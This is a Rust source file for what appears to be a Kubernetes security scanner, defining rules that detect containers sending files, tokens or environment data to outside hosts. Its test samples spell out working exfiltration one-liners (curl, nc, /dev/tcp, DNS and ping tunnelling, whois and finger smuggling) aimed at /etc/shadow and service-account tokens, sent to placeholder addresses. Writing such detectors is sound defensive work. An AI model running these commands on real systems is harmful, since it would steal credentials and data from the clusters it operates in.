//! Data that is sent away.

use super::fetch::show;
use super::secrets::{reads_secret, searches};
use super::serve::serves_node;
use super::shells::{is_netcat, only_probes};
use super::url::{Reach, target};
use super::words::{has, option, subcommand, words};
use super::{COMMAND, Facts, Rule, Sample, Severity, Weight, each_match};
use crate::detect::address::is_api_server;
use crate::detect::catalog::{Exposure, Remedy, Step, links};
use crate::detect::files::uploaded;
use crate::detect::findings::Collector;
use crate::detect::flow::{At, Kind, is_downloader};
use crate::detect::runs::Run;
use crate::detect::{code, code_strings};
use crate::normalize::Invocation;
use crate::normalize::exec::is_shell;

pub(super) static RULES: &[Rule] = &[
    Rule {
        id: "cmd-exfil",
        title: "Data sent to a host outside",
        message: "sends files or secrets to a host outside",
        meaning: "A file, a token or the environment goes to a host that is not in the cluster. Where it goes to a public \
                  address or a drop, or where it is a secret, it weighs 40; other files to a named host weigh 15. A web server that offers \
                  keys, settings or programs of the node counts as the former.",
        false_positives: "Uploads of backups and build results.",
        confirm: &[
            Step::Object(
                "What is sent (a file, a token, the environment) and to which host. A known backup host of \
                 yours ends the alarm; a public address, a paste or a request catcher does not.",
            ),
            Step::Logs("The server's answer: a status 200 or a link means that the data has arrived."),
        ],
        remedy: Remedy {
            exposes: &[Exposure::Token, Exposure::Secrets, Exposure::Data],
            attack: "Take the destination from the command and sum up in flow or proxy logs what went \
                     there, and since when. For a named service ask its abuse desk to keep and remove the \
                     data.",
            benign: "Send backups with a tool for it to a named store, with credentials from a Secret, and \
                     allow exactly that destination in an egress NetworkPolicy.",
        },
        severity: Severity::Medium,
        points: 40,
        techniques: &["T1041", "T1048"],
        references: &[links::NETWORK_POLICY, links::SECRET_PRACTICES],
        check: exfiltrates,
        samples: &[
            Sample::Hit(
                40,
                "containers: [{name: a, command: [curl, -T, /data/dump.tgz, 'http://203.0.113.5/']}]",
            ),
            Sample::Hit(
                40,
                "containers: [{name: a, command: [sh, -c, 'tar cz /data | curl --data-binary @- https://transfer.sh/x']}]",
            ),
            Sample::Hit(
                40,
                "containers: [{name: a, command: [wget, --post-file=/etc/shadow, 'https://x.example.test/']}]",
            ),
            Sample::Hit(
                40,
                "containers: [{name: a, command: [sh, -c, 'cat /run/secrets/kubernetes.io/serviceaccount/token | nc 203.0.113.5 88']}]",
            ),
            Sample::Hit(
                40,
                "containers: [{name: a, command: [sh, -c, 'curl \"https://x.example.test/?t=$(cat /run/secrets/kubernetes.io/serviceaccount/token)\"']}]",
            ),
            Sample::Hit(
                40,
                "containers: [{name: a, command: [sh, -c, 'env | base64 | curl -d @- https://x.example.test']}]",
            ),
            Sample::Hit(
                40,
                "containers: [{name: a, command: [sh, -c, 'whois -h 192.0.2.60 -p 43 \"$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\"']}]",
            ),
            Sample::Hit(
                40,
                "containers: [{name: a, command: [sh, -c, 'finger \"$(base64 /etc/shadow)@203.0.113.5\"']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'whois -h whois.example.test \"$(cat /cfg/domain)\"']}]",
            ),
            Sample::Hit(
                40,
                "containers: [{name: a, command: [sh, -c, 'for c in $(xxd -p /etc/shadow); do nslookup $c.x.example.test; done']}]",
            ),
            Sample::Hit(
                40,
                "containers: [{name: a, command: [bash, -c, 'cat /etc/shadow > /dev/tcp/203.0.113.5/80']}]",
            ),
            Sample::Hit(
                40,
                "containers: [{name: a, command: [python3, -c, 'from urllib.request import urlopen; urlopen(\"http://203.0.113.5/\", data=open(\"/data/x\",\"rb\").read())']}]",
            ),
            Sample::Hit(
                40,
                "containers: [{name: a, command: [node, -e, 'fetch(\"https://x.example.test/\",{method:\"POST\",body:require(\"fs\").readFileSync(\"/var/run/secrets/kubernetes.io/serviceaccount/token\")})']}]",
            ),
            Sample::Hit(
                40,
                "containers: [{name: a, command: [sh, -c, 'tar cz /var/run/secrets | nc x.example.test 9000']}]",
            ),
            Sample::Hit(
                40,
                "containers: [{name: a, command: [sh, -c, 'xxd -p -c 16 /etc/shadow | while read l; do ping -c1 -p $l 203.0.113.9; done']}]",
            ),
            Sample::Miss("containers: [{name: a, command: [sh, -c, 'ping -c 1 -p ff $GATEWAY']}]"),
            Sample::Hit(
                15,
                "containers: [{name: a, command: [curl, -F, 'file=@/out/report.pdf', 'https://files.example.test/up']}]",
            ),
            Sample::Hit(
                40,
                "volumes: [{name: v, hostPath: {path: /}}]\ncontainers: [{name: a, command: [sh, -c, 'cd /h && python3 -m http.server 8080'], volumeMounts: [{name: v, mountPath: /h}]}]",
            ),
            Sample::Hit(
                40,
                "volumes: [{name: v, hostPath: {path: /var/lib/kubelet}}]\ncontainers: [{name: a, command: [busybox, httpd, -f, -h, /h], volumeMounts: [{name: v, mountPath: /h}]}]",
            ),
            Sample::Miss(
                "volumes: [{name: v, hostPath: {path: /srv/reports}}]\ncontainers: [{name: a, command: [python3, -m, http.server, -d, /h], volumeMounts: [{name: v, mountPath: /h}]}]",
            ),
            Sample::Miss("containers: [{name: a, workingDir: /site, command: [python3, -m, http.server]}]"),
            Sample::Hit(
                40,
                "containers: [{name: a, command: [sh, -c, 'cp /run/secrets/kubernetes.io/serviceaccount/token /tmp/z; gzip /tmp/z; curl -T /tmp/z.gz https://x.example.test/']}]",
            ),
            Sample::Hit(
                40,
                "containers: [{name: a, command: [sh, -c, 'read -r t < /run/secrets/kubernetes.io/serviceaccount/token; curl \"https://x.example.test/?q=$t\"']}]",
            ),
            Sample::Hit(
                40,
                "containers: [{name: a, command: [sh, -c, 'ln -s /run/secrets/kubernetes.io/serviceaccount /tmp/l; curl -F a=@/tmp/l/..data/token https://x.example.test/']}]",
            ),
            Sample::Hit(
                40,
                "containers: [{name: a, command: [sh, -c, 'curl -d @/run/secrets/kubernetes.io/serviceaccount/token https://x.example.test/login']}]",
            ),
            Sample::Hit(
                40,
                "containers: [{name: a, command: [sh, -c, 'find / -name credentials | xargs tar czf /tmp/c.tgz; aws s3 cp /tmp/c.tgz s3://drop/c.tgz']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'cp /run/secrets/kubernetes.io/serviceaccount/ca.crt /tmp/z; gzip /tmp/z; aws s3 cp /tmp/z.gz s3://backup/z']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'T=$(cat /run/secrets/kubernetes.io/serviceaccount/token); curl -s -H \"Authorization: Bearer $T\" https://kubernetes.default.svc/api/v1/pods -o /tmp/p.json; aws s3 cp /tmp/p.json s3://backup/p.json']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -s -d role=x -d jwt=@/run/secrets/kubernetes.io/serviceaccount/token http://vault.vault.svc:8200/v1/auth/kubernetes/login']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [curl, -XPUT, 'http://elasticsearch:9200/_snapshot/s/x', -d, '{\"indices\":\"*\"}']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'cat /m | curl --data-binary @- http://pushgateway:9091/metrics/job/x']}]",
            ),
            Sample::Miss("containers: [{name: a, command: [sh, -c, 'echo ruok | nc zk 2181']}]"),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'T=$(cat /run/secrets/kubernetes.io/serviceaccount/token); curl -H \"Authorization: Bearer $T\" https://kubernetes.default.svc/api']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [curl, -d, 'status=ok', 'https://hc.example.test/ping/1']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'openssl s_client -connect api.example.test:443 < /dev/null']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'nslookup $HOSTNAME.shop.svc.cluster.local']}]",
            ),
        ],
        ..COMMAND
    },
    Rule {
        id: "cmd-upload-tool",
        title: "Remote storage tool",
        message: "copies data with a tool for remote storage",
        meaning: "The tools are made for backups, and are what intruders bring to take data along.",
        false_positives: "Backups.",
        confirm: &[Step::Object(
            "The destination (bucket, remote, host) and the source. Is the bucket in an account of \
                 yours?",
        )],
        remedy: Remedy {
            exposes: &[Exposure::Secrets, Exposure::Data],
            attack: "Look up the bucket or remote in the cloud account: one that nobody knows belongs to \
                     somebody else. Revoke the credentials that were used.",
            benign: "Name the destination in the manifest instead of a variable, give the Job a role that \
                     may write to that bucket only, and no right to delete.",
        },
        severity: Severity::None,
        points: 8,
        techniques: &["T1567.002"],
        references: &[links::SECRET_PRACTICES, links::NETWORK_POLICY],
        check: |facts, found| each_match(facts, found, |_, _, invocation| uploads_with_tool(invocation)),
        samples: &[
            Sample::Hit(8, "containers: [{name: a, command: [rclone, sync, /data, 'remote:bucket']}]"),
            Sample::Hit(8, "containers: [{name: a, command: [scp, /data/x, 'u@backup.example.test:/x']}]"),
            Sample::Miss("containers: [{name: a, command: [rsync, -a, /src/, /dst/]}]"),
            Sample::Miss("containers: [{name: a, command: [rclone, version]}]"),
        ],
        ..COMMAND
    },
];

const FULL: Weight = (Severity::Medium, 40);
const ORDINARY: Weight = (Severity::Low, 15);

fn exfiltrates(facts: &Facts<'_>, found: &mut Collector<'_>) {
    for run in &facts.runs {
        if let Some(at) = serves_node(run) {
            found.hit_as(FULL.0, FULL.1, Some(&run.container.name), run.path(), &run.show(at));
        }
    }
    if !facts.runs.iter().any(|run| run.execution.commands.iter().any(may_send)) {
        return;
    }
    let of_env = |invocation: &Invocation| {
        matches!(invocation.program.as_str(), "env" | "printenv") && invocation.args.is_empty()
            || matches!(invocation.program.as_str(), "kubectl" | "oc")
                && subcommand(invocation, &["secret", "secrets"])
    };
    let reads: Vec<Vec<bool>> = facts.runs.iter().map(|run| reads_secret(facts, run)).collect();
    let reads_at = |(run, at): At| reads.get(run).and_then(|marks| marks.get(at)) == Some(&true);
    let is_source = |at: At, call: &Invocation| reads_at(at) || of_env(call) || searches(call);
    let reached = facts.reach(is_source, Kind::Secret);
    for (number, run) in facts.runs.iter().enumerate() {
        let mut heaviest: Option<(usize, Weight)> = None;
        for (at, invocation) in run.invocations().filter(|(_, invocation)| may_send(invocation)) {
            let secret = reached.source_of(number, at).is_some() || reads_at((number, at));
            if let Some(weight) = weigh(run, invocation, secret)
                && heaviest.is_none_or(|(_, known)| known.1 < weight.1)
            {
                heaviest = Some((at, weight));
            }
        }
        if let Some((at, (severity, points))) = heaviest {
            let to = (number, at);
            let evidence = show(facts, reached.source_of(number, at).unwrap_or(to), to);
            found.hit_as(severity, points, Some(&run.container.name), run.path(), &evidence);
        }
    }
}

fn may_send(invocation: &Invocation) -> bool {
    is_downloader(invocation)
        || is_netcat(&invocation.program)
        || matches!(
            invocation.program.as_str(),
            "nslookup" | "dig" | "host" | "ping" | "openssl" | "telnet" | "whois" | "finger"
        )
        || code::text(invocation).is_some_and(code::fetches)
        || invocation.redirects.iter().any(|redirect| redirect.target.text.starts_with("/dev/tcp/"))
        || uploads_with_tool(invocation)
}

fn weigh(run: &Run<'_>, invocation: &Invocation, secret: bool) -> Option<Weight> {
    if is_downloader(invocation) {
        return by_http(invocation, secret);
    }
    if let Some(code) = code::text(invocation) {
        return by_code(code, secret);
    }
    if uploads_with_tool(invocation) {
        return secret.then_some(FULL);
    }
    let socket =
        invocation.redirects.iter().find_map(|redirect| redirect.target.text.strip_prefix("/dev/tcp/"));
    if let Some(to) = socket {
        // A shell there is another rule's; a line that is printed there is a probe.
        let prints = matches!(invocation.program.as_str(), "echo" | "printf" | ":" | "exec" | "true" | "")
            || is_shell(&invocation.program);
        return weigh_reach(target(to)?.reach(), secret, !prints);
    }
    match invocation.program.as_str() {
        "nslookup" | "dig" | "host" | "ping" => by_name(run, invocation, secret),
        // The question is free text, and the server is anybody's: `whois -h HOST TEXT`, `finger TEXT@HOST`.
        "whois" | "finger" => {
            let named = option(invocation, &["-h", "--host"]);
            let at = || words(invocation).find_map(|word| word.rsplit_once('@')).map(|(_, host)| host);
            let reach = target(named.or_else(at)?)?.reach();
            weigh_reach(reach, secret, false)
        }
        program if is_netcat(program) || matches!(program, "telnet" | "openssl") => {
            if only_probes(invocation) {
                return None;
            }
            let to = match option(invocation, &["-connect"]) {
                Some(to) => to,
                None => words(invocation).find(|word| {
                    !word.starts_with('-') && word.contains(['.', '$', ':']) || word.starts_with('$')
                })?,
            };
            weigh_reach(target(to)?.reach(), secret, sends_file(run, invocation))
        }
        _ => None,
    }
}

/// What a file or a secret weighs where it goes.
fn weigh_reach(reach: Reach, secret: bool, file: bool) -> Option<Weight> {
    match reach {
        Reach::Drop | Reach::Address if file || secret => Some(FULL),
        Reach::Named | Reach::Unknown if secret => Some(FULL),
        Reach::Named if file => Some(ORDINARY),
        _ => None,
    }
}

/// Whether a stream tool is given more than a line that is printed.
fn sends_file(run: &Run<'_>, invocation: &Invocation) -> bool {
    use crate::normalize::RedirectOp;
    let from_file = invocation
        .redirects
        .iter()
        .any(|redirect| redirect.op == RedirectOp::In && redirect.target.text != "/dev/null");
    let sources: Vec<&Invocation> = invocation
        .inputs
        .iter()
        .flat_map(|span| span.indices())
        .take(64)
        .filter_map(|at| run.invocation(at))
        .collect();
    // What a shell says there is the shell's: another rule.
    if sources.iter().any(|source| is_shell(&source.program)) {
        return false;
    }
    from_file
        || sources.iter().any(|source| {
            matches!(
                source.program.as_str(),
                "cat"
                    | "tar"
                    | "gzip"
                    | "zip"
                    | "base64"
                    | "xxd"
                    | "dd"
                    | "env"
                    | "printenv"
                    | "ps"
                    | "find"
                    | "cpio"
            )
        })
}

fn by_http(invocation: &Invocation, secret: bool) -> Option<Weight> {
    let sends_file = option(invocation, &["-T", "--upload-file", "--post-file", "--body-file"]).is_some()
        || words(invocation)
            .any(|word| uploaded(word).is_some() || matches!(word, "@-" | "-d@-") || word.ends_with("=@-"));
    if !secret && !sends_file {
        return None;
    }
    let urls = words(invocation)
        .filter(|word| word.contains("://") || word.contains('.') && !word.starts_with(['-', '@', '/']));
    let weights = urls.take(64).filter_map(|url| {
        let place = target(url)?;
        // A path such as /login says nothing of whose host it is.
        let is_api = is_api_server(place.host);
        let in_url = url.contains("$()") || sends_file;
        match place.reach() {
            _ if is_api => None,
            // A header with a token goes to an API; where it is only known at run time, so does the token.
            Reach::Unknown if !in_url => None,
            reach => weigh_reach(reach, secret, sends_file),
        }
    });
    weights.max_by_key(|weight| weight.1)
}

fn by_code(code: &str, secret: bool) -> Option<Weight> {
    let sends_file =
        code::any(
            code,
            &["data=", "files=", "data = open(", ".post(", ".put(", "createReadStream", "POST", "PUT"],
        ) && code::any(code, &["open(", "readFile", "createReadStream", "File.read", "os.environ"]);
    let literals = code_strings::literals(code);
    let hosts = literals.iter().filter(|text| text.contains("://")).filter_map(|text| target(text));
    let weights = hosts.filter(|place| !is_api_server(place.host));
    weights
        .filter_map(|place| weigh_reach(place.reach(), secret && sends_file, sends_file))
        .max_by_key(|weight| weight.1)
}

/// Queries for names with data in them: `$chunk.attacker.example`.
fn by_name(run: &Run<'_>, invocation: &Invocation, secret: bool) -> Option<Weight> {
    let carries = words(invocation).any(|word| {
        let label = word.split('.').next().unwrap_or_default();
        label.starts_with('$') && target(word).is_some_and(|place| place.reach() == Reach::Named)
    });
    // `ping -p PATTERN` puts it into the packets.
    let carries = carries
        || invocation.program == "ping"
            && option(invocation, &["-p"]).is_some_and(|pattern| pattern.starts_with('$'));
    let encoded = || {
        let sources = invocation
            .inputs
            .iter()
            .flat_map(|span| span.indices())
            .take(64)
            .filter_map(|at| run.invocation(at));
        sources.into_iter().any(|source| {
            matches!(source.program.as_str(), "xxd" | "base64" | "base32" | "od" | "hexdump" | "fold")
        })
    };
    (carries && (secret || encoded())).then_some(FULL)
}

/// Tools that copy to storage elsewhere, with a subcommand that does.
fn uploads_with_tool(invocation: &Invocation) -> bool {
    match invocation.program.as_str() {
        "rclone" => subcommand(invocation, &["copy", "sync", "move", "copyto", "moveto", "rcat", "bisync"]),
        "s3cmd" => subcommand(invocation, &["put", "sync"]),
        "gsutil" => subcommand(invocation, &["cp", "rsync", "mv"]),
        "azcopy" => subcommand(invocation, &["copy", "sync", "cp"]),
        "mc" => subcommand(invocation, &["cp", "mirror", "pipe"]),
        "lftp" | "ncftpput" | "megaput" | "ftp" | "sftp" | "tftp" => true,
        "scp" | "rsync" => words(invocation)
            .any(|word| word.contains(':') && !word.starts_with(['-', '/']) && !word.contains("://")),
        "aws" => has(invocation, &["s3"]) && subcommand(invocation, &["cp", "sync", "mv"]),
        _ => false,
    }
}
